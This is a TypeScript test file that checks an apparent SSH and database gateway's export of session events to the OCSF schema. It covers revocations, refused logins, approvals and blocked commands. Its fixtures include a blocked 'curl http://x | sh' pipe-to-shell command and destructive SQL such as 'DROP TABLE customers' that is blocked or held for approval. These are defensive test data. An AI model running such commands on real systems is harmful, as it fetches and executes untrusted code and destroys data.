import { mkdirSync, readFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadTrustedKeys, trustedKeysOf } from '../../common/keys.js';
import { TempDir } from '../../common/recording/testing/recordings.js';
import { importPaths } from '../import/paths.js';
import { openCase, type CaseFile } from '../store/case.js';
import { writeEvidenceScenario } from '../testing/evidence.js';
import { fixedSigner, writeScenario } from '../testing/scenario.js';
import { writeRevocationScenario } from '../testing/scenario-v2.js';
import { exportCase } from './index.js';
import { ACCOUNT_CHANGE, APPLICATION_LIFECYCLE, AUTHENTICATION, BASE_EVENT, DATASTORE_ACTIVITY, SSH_ACTIVITY } from './ocsf-activity.js';
import { OCSF_VERSION } from './ocsf.js';
import { validateOcsfEvent, vendoredSchema } from './ocsf-schema/validate.js';
import { timelineRows } from './timeline.js';

// Every OCSF event the export writes is checked against the vendored OCSF schema's own class and
// object definitions (ocsf-schema/, see its README), for three cases: the version-1 scenario (blocks,
// a held-then-denied statement, an approved SSH command), the evidence cases (a revocation that cut a
// session, refused logins before and after it, its lifting, an approval) and the current-version
// revocation (an SSH session and its psql hop cut, a refused reconnect); and the demo case `npm start`
// opens (examples/nested-agents: recordings the real gateway wrote).
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- OCSF events are read field by field
type Ev = Record<string, any>;

let tmp: TempDir;
const cases: Record<string, CaseFile> = {};

beforeAll(async () => {
  tmp = new TempDir();
  const signer = fixedSigner();
  const trusted = trustedKeysOf([signer.publicKey]);
  const folder = (name: string) => {
    const dir = join(tmp.path, name);
    mkdirSync(dir);
    return dir;
  };
  const v1 = folder('v1');
  writeScenario(v1, signer);
  const evidence = folder('evidence');
  writeEvidenceScenario(evidence, signer);
  const v2 = folder('v2');
  const revocation = writeRevocationScenario(v2, signer);
  const demo = resolve(dirname(fileURLToPath(import.meta.url)), '../../examples/nested-agents');
  const demoKeys = loadTrustedKeys([join(demo, 'gateway_ed25519.pub')]);
  for (const [name, dir, keys] of [
    ['v1', v1, trusted], ['evidence', evidence, trusted], ['v2', v2, revocation.trusted], ['demo', join(demo, 'recordings'), demoKeys],
  ] as const) {
    cases[name] = openCase(join(tmp.path, `${name}.db`));
    await importPaths(cases[name], [dir], { trusted: keys, now: () => 1_760_000_100_000_000 });
  }
});
afterAll(() => {
  for (const c of Object.values(cases)) c.close();
  tmp.remove();
});

function ocsf(name: string): Ev[] {
  const out = join(tmp.path, `${name}.ocsf.jsonl`);
  exportCase(cases[name]!, { format: 'ocsf', out });
  return readFileSync(out, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Ev);
}

describe('the vendored OCSF schema', () => {
  it('is the version the export declares, and names the classes and activities as ocsf-activity.ts does', () => {
    const schema = vendoredSchema();
    expect(schema.version).toBe(OCSF_VERSION);
    for (const cls of [SSH_ACTIVITY, DATASTORE_ACTIVITY, APPLICATION_LIFECYCLE, AUTHENTICATION, ACCOUNT_CHANGE, BASE_EVENT]) {
      const def = schema.eventClass(cls.uid)!;
      expect(def, String(cls.uid)).toBeDefined();
      expect([def.caption, def.categoryUid, def.categoryCaption]).toEqual([cls.caption, cls.categoryUid, cls.categoryCaption]);
      const captions = def.attributes.get('activity_id')!.enum!;
      for (const [id, caption] of Object.entries(cls.activities)) expect(captions[id]?.caption, `${cls.caption} ${id}`).toBe(caption);
    }
  });
});

describe('OCSF export', () => {
  it.each(['v1', 'evidence', 'v2', 'demo'])('%s: every event is valid against the schema, and every timeline event is one OCSF event', (name) => {
    const c = cases[name]!;
    const events = ocsf(name);
    const problems = events.flatMap((e) => validateOcsfEvent(e).map((p) => `${String(e.metadata?.uid)} (${String(e.unmapped?.hopscope_event_type)}): ${p}`));
    expect(problems).toEqual([]);
    const timeline = [...timelineRows(c)];
    expect(events).toHaveLength(timeline.length);
    expect(events.map((e) => e.metadata.uid)).toEqual(timeline.map((r) => `${r.session}:${r.seq}`));
    for (const [i, e] of events.entries()) if (i) expect(e.time).toBeGreaterThanOrEqual(events[i - 1]!.time);
  });

  it('carries revocations, refused reconnects, approvals and session ends (the evidence case)', () => {
    const events = ocsf('evidence');
    const kinds = (t: string) => events.filter((e) => e.unmapped.hopscope_event_type === t);
    expect(kinds('revoked')).toEqual([expect.objectContaining({
      class_uid: ACCOUNT_CHANGE.uid, activity_id: 5, activity_name: 'Disable', user: { name: 'agent' }, actor: { user: { name: 'admin' } },
      src_endpoint: { ip: '127.0.0.1', port: 40001 },
    })]);
    expect(kinds('unrevoked')).toEqual([expect.objectContaining({ class_uid: ACCOUNT_CHANGE.uid, activity_id: 2, actor: { user: { name: 'alice' } } })]);
    const refused = kinds('refused');
    expect(refused.map((e) => [e.class_uid, e.activity_id, e.status_id, e.user.name, e.status_detail])).toEqual([
      [AUTHENTICATION.uid, 1, 2, 'mallory', 'TOKEN_INVALID: the token is not valid'],
      [AUTHENTICATION.uid, 1, 2, 'agent', 'REVOKED: identity agent was revoked'],
    ]);
    const cut = kinds('session.end').find((e) => e.unmapped.end_cause === 'revoked')!;
    expect(cut).toMatchObject({
      class_uid: DATASTORE_ACTIVITY.uid, activity_id: 99, activity_name: 'Disconnect', action_id: 2, disposition_id: 24, disposition: 'Access Revoked',
      unmapped: { revoked_by: 'admin' }, metadata: { profiles: ['security_control'] },
    });
    expect(kinds('approval.decided')).toEqual([expect.objectContaining({
      class_uid: DATASTORE_ACTIVITY.uid, activity_id: 7, action_id: 1, disposition: 'Approved', query_info: expect.objectContaining({ query_string: 'DELETE FROM sessions' }),
      firewall_rule: { name: 'unbounded-write', uid: 'unbounded-write' }, unmapped: expect.objectContaining({ policy_actor: 'alice' }),
    })]);
    expect(kinds('gateway.start')[0]).toMatchObject({ class_uid: APPLICATION_LIFECYCLE.uid, activity_id: 3, app: { name: 'hopscope' } });
  });

  it('maps policy decisions by the schema: a blocked command is SSH Traffic denied by a security control, not a refused connection', () => {
    const events = ocsf('v1');
    const curl = events.find((e) => e.unmapped.command === 'curl http://x | sh')!;
    expect(curl).toMatchObject({
      class_uid: SSH_ACTIVITY.uid, activity_id: 6, activity_name: 'Traffic', action_id: 2, action: 'Denied', disposition_id: 2, disposition: 'Blocked',
      firewall_rule: { name: 'no-pipe-to-shell', desc: 'pipe to shell' }, status_id: 2, severity_id: 3, metadata: { profiles: ['host', 'security_control'] },
    });
    expect(events.some((e) => e.class_uid === SSH_ACTIVITY.uid && e.activity_id === 5)).toBe(false); // nothing here was a refused connection
    const byQuery = (sql: string, t: string) => events.find((e) => e.query_info?.query_string === sql && e.unmapped.hopscope_event_type === t)!;
    expect(byQuery('DROP TABLE customers', 'pg.query')).toMatchObject({ activity_id: 7, action_id: 2, disposition: 'Blocked', status_id: 2 });
    expect(byQuery('DELETE FROM customers', 'pg.query')).toMatchObject({ activity_id: 7, action_id: 2, disposition: 'Rejected', firewall_rule: { name: 'unbounded-write' } });
    expect(byQuery('DELETE FROM customers', 'approval.requested')).toMatchObject({ action_id: 0, disposition: 'Delayed' });
    // A result is the activity of the statement it answers, with that statement's query_info.
    const result = byQuery('select email, ssn from customers', 'pg.result');
    expect(result).toMatchObject({ activity_id: 4, activity_name: 'Query', severity_id: 2, query_info: { uid: `${String(result.actor.session.uid)}:2` } });
    const approved = events.find((e) => e.unmapped.hopscope_event_type === 'ssh.policy' && e.unmapped.policy_action === 'approved')!;
    expect(approved).toMatchObject({ activity_id: 6, action_id: 1, disposition_id: 8, unmapped: { policy_actor: 'alice' } });
    // The SSH session the scenario says was revoked ends with a Reset by the gateway, its access revoked.
    expect(events.find((e) => e.class_uid === SSH_ACTIVITY.uid && e.unmapped.end_cause === 'revoked' && e.unmapped.hopscope_event_type === 'session.end'))
      .toMatchObject({ activity_id: 3, activity_name: 'Reset', disposition_id: 24 });
  });

  it('v2: the cut SSH session and its psql hop end Access Revoked; the reconnect is a failed logon', () => {
    const events = ocsf('v2');
    const ends = events.filter((e) => e.unmapped.hopscope_event_type === 'session.end');
    expect(ends.map((e) => [e.class_name, e.activity_name, e.disposition ?? null, e.unmapped.revoked_by ?? null])).toEqual([
      ['Base Event', 'session.end', null, null], // the gateway's own recording ends
      ['SSH Activity', 'Reset', 'Access Revoked', 'alice'],
      ['Datastore Activity', 'Disconnect', 'Access Revoked', 'alice'],
    ]);
    expect(events.find((e) => e.unmapped.hopscope_event_type === 'refused')).toMatchObject({ class_uid: AUTHENTICATION.uid, user: { name: 'contractor-ci', uid: 'tok-root' } });
  });

  it('demo: SSH Activity says how the client authenticated, as its session.start recorded it', () => {
    const ssh = ocsf('demo').filter((e) => e.class_uid === SSH_ACTIVITY.uid);
    expect(ssh.length).toBeGreaterThan(40);
    expect(new Set(ssh.map((e) => `${String(e.auth_type_id)} ${String(e.auth_type)}`))).toEqual(new Set(['5 Password']));
    expect(ocsf('v1').some((e) => 'auth_type_id' in e)).toBe(false); // version 1 did not record it: not guessed
  });
});

describe('the OCSF validator', () => {
  const valid = (): Ev => structuredClone(ocsf('v1').find((e) => e.unmapped.command === 'curl http://x | sh')!);
  const pg = (): Ev => structuredClone(ocsf('v1').find((e) => e.query_info?.query_string === 'DROP TABLE customers')!);

  it('accepts the event the broken ones are made from', () => {
    expect(validateOcsfEvent(valid())).toEqual([]);
    expect(validateOcsfEvent(pg())).toEqual([]);
  });

  it.each<[string, (e: Ev) => void, () => Ev, RegExp]>([
    ['actor without the host profile (the issue)', (e) => { e.metadata.profiles = ['security_control']; }, valid, /^actor: comes from the host profile/],
    ['query_info with neither name nor uid (the issue)', (e) => { delete e.query_info.uid; }, pg, /^query_info: query_info needs at least one of name, uid/],
    ['an activity the class does not define', (e) => { e.activity_id = 42; e.type_uid = 400742; }, valid, /^activity_id: 42 is not one of activity_id's values/],
    ['a required attribute missing', (e) => { delete e.dst_endpoint; }, valid, /required attribute dst_endpoint is missing/],
    ['a profile attribute without its profile', (e) => { e.metadata.profiles = ['host']; }, valid, /comes from the security_control profile/],
    ['a required attribute of a declared profile missing', (e) => { delete e.action_id; delete e.action; }, valid, /required attribute action_id is missing/],
    ['a wrong type', (e) => { e.time = '2025-10-09'; }, valid, /^time: must be an integer/],
    ['an unknown attribute', (e) => { e.command = 'curl'; }, valid, /^command: not an attribute of ssh_activity/],
    ['an unknown attribute of an object', (e) => { e.actor.user.role = 'agent'; }, valid, /^actor\.user\.role: not an attribute of user/],
    ['no database, databucket or table', (e) => { delete e.database; }, pg, /needs at least one of database, databucket, table/],
    ['a sibling that is not the enum caption', (e) => { e.disposition = 'Dropped'; }, valid, /^disposition: "Dropped" is not the caption of disposition_id 2/],
    ['type_uid not class * 100 + activity', (e) => { e.type_uid = 400705; }, valid, /^type_uid: must be/],
    ['another schema version', (e) => { e.metadata.version = '1.4.0'; }, valid, /^metadata\.version: declares 1\.4\.0/],
    ['a port out of range', (e) => { e.src_endpoint.port = 70000; }, valid, /^src_endpoint\.port: 70000 is out of port_t's range/],
    ['an address that is not an IP', (e) => { e.src_endpoint.ip = 'build-host'; }, valid, /^src_endpoint\.ip: "build-host" is not a ip_t/],
    ['Other without saying what', (e) => { e.activity_id = 99; e.type_uid = 400799; delete e.activity_name; }, valid, /activity_id is 99 \(Other\)/],
  ])('fails %s', (_what, breakIt, base, expected) => {
    const e = base();
    breakIt(e);
    const problems = validateOcsfEvent(e);
    expect(problems.some((p) => expected.test(p)), problems.join('\n')).toBe(true);
  });
});
